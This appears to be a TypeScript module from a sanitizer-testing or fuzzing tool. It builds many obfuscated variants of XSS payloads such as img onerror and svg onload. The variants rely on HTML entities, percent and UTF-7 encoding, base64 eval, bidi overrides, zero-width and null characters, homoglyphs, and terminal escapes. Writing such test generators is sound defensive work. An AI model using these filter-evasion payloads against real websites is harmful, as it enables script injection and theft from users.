/** The same in other clothes: references, percent signs, other alphabets, signs nobody sees. */
import { base64, references, type Family, type Maker } from './maker'

const image = (run: string): string => `<img src=x onerror="${run}">`
const wide = (text: string): string => [...text].map((sign) => (sign > ' ' && sign <= '~' ? String.fromCharCode(sign.charCodeAt(0) + 0xfee0) : sign)).join('')
const between = (text: string, sign: string): string => [...text].join(sign)

const encoded: readonly Maker[] = [
  (run) => image(run).replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (run) => image(run).replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (run) => image(run).replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (run) => references(image(run)),
  (run) => references(image(run), 'hex'),
  (run) => image(run).replaceAll('<', '&#0000060').replaceAll('>', '&#x000003e;'),
  (run) => encodeURIComponent(image(run)),
  (run) => image(run).replaceAll('<', '%253C').replaceAll('>', '%253E'),
  (run) => image(run).replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (run) => `<img src=x onerror="${references(run)}">`,
  (run) => `<img src=x onerror="${references(run, 'padded')}">`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `data:text/html;base64,${base64(image(run))}`,
  (run) => `=?utf-8?B?${base64(image(run))}?=`,
  (run) => `<script>eval(atob('${base64(run)}'))</script>`
]

const unseen: readonly Maker[] = [
  (run) => `\u202e${image(run)}\u202c`,
  (run) => `\u2066${image(run)}\u2069`,
  (run) => `photo\u202egnp.${image(run)}`,
  (run) => between(`<script>${run}</script>`, '\u200b'),
  (run) => `\ufeff<script>${run}</script>`,
  (run) => `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  (run) => `<img\u0000 src=x onerror="${run}">`,
  (run) => `<img src=x\u000conerror="${run}">`,
  (run) => `<img src=x\u00a0onerror="${run}">`,
  (run) => `<img/src=x/onerror="${run}"/\u2028>`,
  (run) => wide(image(run)),
  (run) => image(run).replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  (run) => image(run).replace('onerror', 'on\u0131error').replace('img', '\u0131mg'),
  (run) => `<\u017fcript>${run}</\u017fcript>`,
  (run) => `\ud83d\udd4a<svg onload="${run}">\ud83d\udd4a`,
  (run) => `e\u0301\u0327<svg onload="${run}">\u0308`,
  (run) => `\u001b]0;${run}\u0007\u001b[31m<svg onload="${run}">`
]

export const encodings: readonly Family[] = [
  { name: 'encoded', makers: encoded },
  { name: 'signs nobody sees', makers: unseen }
]
